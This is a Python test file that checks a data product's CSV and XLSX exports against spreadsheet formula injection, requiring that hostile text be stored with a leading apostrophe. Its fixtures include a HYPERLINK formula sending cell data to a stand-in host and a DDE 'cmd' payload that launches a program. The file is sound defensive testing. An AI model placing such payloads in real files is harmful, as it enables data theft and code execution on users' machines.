"""Every CSV the product writes is safe to open in a spreadsheet, and the XLSX files hold no formula
(DATA_CONTRACT §4): hostile text (sub-ambito names and codes uploaded by a user, rejected values, audit
entries) reaches every writer, and no cell of any output would run in Excel or LibreOffice."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from core import spreadsheet, warehouse
from core.settings import REPO_ROOT
from etl import audit
from tests.conftest import PRESTAZIONI_HEADER, demo_warehouse_env, open_page, prestazione, write_csv

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"Clic")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=2+2"]
# A cell a spreadsheet runs: these first characters (after spaces), unless the cell is a plain number.
LIVE = re.compile(r"^[ ]*[=+\-@\t\r\n]")
NUMBER = re.compile(r"^[ ]*[+\-]?(?:[0-9][0-9.,]*|[.,][0-9]+)(?:[eE][+\-]?[0-9]+)?[ ]*$")


def live_cells(text: str, sep: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula."""
    return [
        c
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep)
        for c in row
        if LIVE.match(c) and not NUMBER.match(c)
    ]


def neutralised_cells(text: str, sep: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for c in row if c.startswith("'")]


def test_formula_cells_get_an_apostrophe_and_numbers_stay_numbers():
    df = pl.DataFrame(
        {
            "testo": ["=1+1", "+SUM(A1)", "-3", "-1.234,5", "@x", "\tx", " =x", "ok", "-1+1", "1e-3", None],
            "numero": [-3, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
            "decimale": [-1.5, None, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
        }
    )
    out = spreadsheet.neutralise_formulas(df)
    assert out["testo"].to_list() == [
        "'=1+1",
        "'+SUM(A1)",
        "-3",
        "-1.234,5",
        "'@x",
        "'\tx",
        "' =x",
        "ok",
        "'-1+1",
        "1e-3",
        None,
    ]
    assert out["numero"].to_list() == df["numero"].to_list() and out.schema == df.schema
    text = spreadsheet.write_csv(df, separator=";", decimal_comma=True)
    assert text.splitlines()[1] == "'=1+1;-3;-1,5" and live_cells(text, ";") == []


def test_every_csv_writer_goes_through_core_spreadsheet():
    """No module writes a CSV by itself (demo/ and benchmarks/ write the synthetic *input* files of the loader)."""
    exempt = {"tests", "demo", "benchmarks", ".venv"}
    offenders = []
    for path in REPO_ROOT.rglob("*.py"):
        rel = path.relative_to(REPO_ROOT)
        if rel.parts[0] in exempt or rel == Path("core/spreadsheet.py"):
            continue
        text = path.read_text(encoding="utf-8")
        for m in re.finditer(r"(\w+)\.write_csv\(|csv\.(?:writer|DictWriter)\(|\.to_csv\(", text):
            if m.group(1) != "spreadsheet" and not text[: m.start()].endswith("spreadsheet."):
                offenders.append(f"{rel}: {m.group(0)}")
    for page in ("pages/dati.py", "pages/esporta.py", "pages/registro.py"):
        assert "from core.spreadsheet import write_csv" in (REPO_ROOT / page).read_text(encoding="utf-8")
    assert offenders == []


# --- every writer, on a warehouse holding hostile text -------------------------------------------------


def _hostile_files(tmp: Path) -> list[Path]:
    """Sub-ambito codes and names and rejected values that a spreadsheet would run."""
    comuni = pl.read_csv(REPO_ROOT / "data/ambito/sub_ambiti.csv", infer_schema=False)
    codes = {c: FORMULAS[i % len(FORMULAS)].strip() + c for i, c in enumerate(sorted(comuni["sub_ambito"].unique()))}
    sub = comuni.with_columns(
        pl.col("sub_ambito").replace_strict(codes).alias("sub_ambito"),
        pl.col("sub_ambito")
        .replace_strict({c: FORMULAS[i % len(FORMULAS)] + " nome" for i, c in enumerate(sorted(codes))})
        .alias("nome_sub_ambito"),
    )
    sub.write_csv(tmp / "sub_ambiti_ostili.csv")
    rows = [prestazione(f"f{i}", ore=f, comune=f, esito=f) for i, f in enumerate(FORMULAS)]
    write_csv(tmp / "prestazioni_ostili.csv", PRESTAZIONI_HEADER, rows)
    return [tmp / "sub_ambiti_ostili.csv", tmp / "prestazioni_ostili.csv"]


def _hostile_audit(tmp: Path) -> None:
    audit.record(
        "esportazione", "m.rossi", "ufficio_di_piano", "=cmd|' /C calc'!A0", "ok", "-1+cmd", db=tmp / "warehouse.duckdb"
    )


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The demo warehouse with hostile files loaded by its own builder (a demo takes no other load)."""
    import demo.build as build

    original = build.generate_demo_files

    def with_hostile(folder: Path, **kwargs) -> list[Path]:
        return [*original(folder, **kwargs), *_hostile_files(folder)]

    patch = pytest.MonkeyPatch()
    patch.setattr(build, "generate_demo_files", with_hostile)
    try:
        with demo_warehouse_env(tmp_path_factory.mktemp("ostile"), prepare=_hostile_audit) as db:
            with warehouse.reader(db) as con:  # the hostile rows were read and rejected, not lost
                assert warehouse.scalar(con, "SELECT count(*) FROM scarti WHERE file = 'prestazioni_ostili.csv'")
            yield db
    finally:
        patch.undo()


def _run(module: str, *args) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", module, *args], cwd=REPO_ROOT, capture_output=True, text=True, timeout=300
    )


def test_cli_rejected_csv(hostile_db, tmp_path):
    out = tmp_path / "scarti.csv"
    assert _run("etl", "rejected", "--db", str(hostile_db), "--out", str(out)).returncode == 0
    text = out.read_text(encoding="utf-8")
    assert live_cells(text, ",") == [] and len(neutralised_cells(text, ",")) >= 3 * len(FORMULAS) - 3
    assert live_cells(_run("etl", "rejected", "--db", str(hostile_db)).stdout, ",") == []


def test_cli_indicators_csv(hostile_db, tmp_path):
    out = tmp_path / "indicatori.csv"
    assert _run("indicators", "compute", "--db", str(hostile_db), "--format", "csv", "--out", str(out)).returncode == 0
    text = out.read_text(encoding="utf-8")
    assert live_cells(text, ",") == [] and neutralised_cells(text, ",")  # the hostile sub-ambito codes


def _captured_downloads(monkeypatch, page: str, **query) -> dict[str, object]:
    """Run a page; return {file name: data} of its download buttons (the page's own code makes the data,
    on click for a callable: `_data`)."""
    from ui import downloads

    captured: dict[str, object] = {}

    def capture(who, label, data, file_name, mime, what, **kwargs):
        captured[file_name] = data

    monkeypatch.setattr(downloads, "download_button", capture)
    at = AppTest.from_file(str(REPO_ROOT / "app.py"), default_timeout=120)
    open_page(at, page, **query)
    return captured


def _data(captured: dict[str, object], name: str):
    data = captured[name]
    return data() if callable(data) else data


def test_dashboard_downloads(hostile_db, monkeypatch):
    esporta = _captured_downloads(monkeypatch, "pages/esporta.py", vista="Ufficio di Piano")
    [csv_name] = [n for n in esporta if n.startswith("indicatori_ufficio_") and n.endswith(".csv")]
    text = _data(esporta, csv_name)
    assert live_cells(text, ";") == []
    assert sum("HYPERLINK" in c for c in neutralised_cells(text, ";")) > 0  # the names of the sub-ambiti
    _assert_no_formula(openpyxl.load_workbook(io.BytesIO(_data(esporta, csv_name.replace(".csv", ".xlsx")))))

    dati = _captured_downloads(monkeypatch, "pages/dati.py", vista="Ufficio di Piano")
    text = _data(dati, "tutte_le_righe_scartate.csv")
    assert live_cells(text, ";") == [] and len(neutralised_cells(text, ";")) >= 2 * len(FORMULAS)

    registro = _captured_downloads(monkeypatch, "pages/registro.py")
    text = _data(registro, "registro_accessi.csv")
    assert live_cells(text, ";") == [] and "'=cmd|' /C calc'!A0" in text


def _assert_no_formula(wb) -> None:
    hostile = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                hostile += isinstance(cell.value, str) and "HYPERLINK" in cell.value
    assert hostile > 0  # the hostile text is there, as text


def test_xlsx_report_holds_hostile_text_as_text(hostile_db, tmp_path):
    from indicators.reports import build_report

    with warehouse.reader(hostile_db) as con:
        out = build_report(con, "xlsx", tmp_path / "regione.xlsx")
    _assert_no_formula(openpyxl.load_workbook(out))
